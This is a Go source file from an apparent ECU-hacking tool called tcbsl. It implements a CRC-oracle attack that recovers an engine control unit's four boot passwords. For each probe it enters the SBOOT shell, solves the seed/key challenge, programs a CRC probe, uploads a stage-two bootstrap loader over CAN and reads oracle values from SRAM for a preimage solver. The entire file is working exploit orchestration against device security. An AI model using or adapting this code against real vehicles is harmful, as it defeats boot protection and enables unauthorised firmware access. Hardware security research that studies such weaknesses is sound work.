/*
 * tcbsl - CRC-oracle boot-password recovery.
 *
 * Copyright 2024, Richard Cornwell
 *
 * Permission is hereby granted, free of charge, to any person obtaining a copy
 * of this software and associated documentation files (the "Software"), to deal
 * in the Software without restriction, including without limitation the rights
 * to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
 * copies of the Software, and to permit persons to whom the Software is
 * furnished to do so, subject to the following conditions:
 *
 * The above copyright notice and this permission notice shall be included in
 * all copies or substantial portions of the Software.
 *
 * THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
 * IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
 * FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
 * AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
 * LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
 * OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
 * SOFTWARE.
 *
 */

// Package oracle orchestrates the four CRC-oracle probes (C6) that
// recover an ECU's boot passwords without prior knowledge: each probe
// is a fresh SBOOT induction, seed/key exchange, CRC-probe program,
// validator trigger, BSL upload, and a read of the two oracle result
// words the stage-two BSL leaves in SRAM.
package oracle

import (
	"bufio"
	"context"
	"fmt"
	"os"
	"time"

	"github.com/wrongbaud/tcbsl/bsl/upload"
	"github.com/wrongbaud/tcbsl/device"
	"github.com/wrongbaud/tcbsl/external"
	"github.com/wrongbaud/tcbsl/memops"
	"github.com/wrongbaud/tcbsl/sboot"
	"github.com/wrongbaud/tcbsl/variant"
)

// ProbeAddrs are the four fixed boot-password probe start addresses
// (spec §4.6), re-exported from variant for convenience.
var ProbeAddrs = variant.ProbeAddrs

// PasswordSet is the ordered four-tuple of 32-bit little-endian boot
// passwords recovered from the four probes.
type PasswordSet [4]uint32

// ExtractBootPasswords runs one full induction->probe->BSL-upload->
// read-result cycle per fixed probe address, in address order, with
// no caching across probes (testable property 4): the validator
// reboots the device on every trigger, so each probe must re-enter
// SBOOT from scratch. bslImage is the stage-two BSL blob streamed in
// by bsl/upload after each trigger.
func ExtractBootPasswords(ctx context.Context, dev *device.Device, v variant.Variant, bslImage []byte, solver external.PreimageSolver) (PasswordSet, error) {
	var results [4]external.ProbeResult

	for i, addr := range ProbeAddrs {
		r, err := runProbe(ctx, dev, v, bslImage, addr)
		if err != nil {
			return PasswordSet{}, fmt.Errorf("oracle: probe %d (addr 0x%08x): %w", i, addr, err)
		}
		results[i] = r
	}

	words, err := solver.Invert(ctx, results)
	if err != nil {
		return PasswordSet{}, fmt.Errorf("oracle: preimage inversion: %w", err)
	}
	return PasswordSet(words), nil
}

func runProbe(ctx context.Context, dev *device.Device, v variant.Variant, bslImage []byte, startAddr uint32) (external.ProbeResult, error) {
	shell := sboot.New(dev, sboot.Config{CRCDelay: time.Duration(dev.CRCDelayUS) * time.Microsecond})

	if err := shell.EnterShell(ctx); err != nil {
		return external.ProbeResult{}, fmt.Errorf("induction: %w", err)
	}

	seed, err := shell.RetrieveSeed(ctx)
	if err != nil {
		return external.ProbeResult{}, fmt.Errorf("seed: %w", err)
	}
	key, err := dev.Keys.Solve(ctx, seed)
	if err != nil {
		return external.ProbeResult{}, fmt.Errorf("key solve: %w", err)
	}
	if err := shell.SubmitKey(key); err != nil {
		return external.ProbeResult{}, fmt.Errorf("submit key: %w", err)
	}

	probe := sboot.CRCProbe{
		InitialCRC:  0,
		ExpectedCRC: 0,
		RangeCount:  1,
		StartAddr:   startAddr,
		EndAddr:     v.CRCEndAddr,
		PartNumber:  v.PartNumber,
	}
	if err := shell.ProgramCRCProbe(probe); err != nil {
		return external.ProbeResult{}, fmt.Errorf("probe program: %w", err)
	}
	if err := shell.TriggerValidator(); err != nil {
		return external.ProbeResult{}, fmt.Errorf("trigger: %w", err)
	}

	if err := upload.New(dev.CAN).Send(bslImage, nil); err != nil {
		return external.ProbeResult{}, fmt.Errorf("bsl upload: %w", err)
	}

	mem := memops.New(dev.CAN)
	endAddr, err := mem.Read32(v.Oracle.AddressReached)
	if err != nil {
		return external.ProbeResult{}, fmt.Errorf("read address-reached: %w", err)
	}
	crc, err := mem.Read32(v.Oracle.CurrentCRC)
	if err != nil {
		return external.ProbeResult{}, fmt.Errorf("read current-crc: %w", err)
	}

	return external.ProbeResult{
		EndAddr:  endAddr,
		CRC:      crc,
		RangeLen: endAddr - startAddr,
	}, nil
}

// LoadBSLImage reads a stage-two BSL image off disk, for callers that
// want to keep oracle.ExtractBootPasswords ignorant of file I/O
// details beyond accepting the already-read bytes.
func LoadBSLImage(path string) ([]byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("oracle: open bsl image %s: %w", path, err)
	}
	defer f.Close()

	r := bufio.NewReader(f)
	buf := make([]byte, 0, 64*1024)
	chunk := make([]byte, 4096)
	for {
		n, err := r.Read(chunk)
		if n > 0 {
			buf = append(buf, chunk[:n]...)
		}
		if err != nil {
			break
		}
	}
	return buf, nil
}
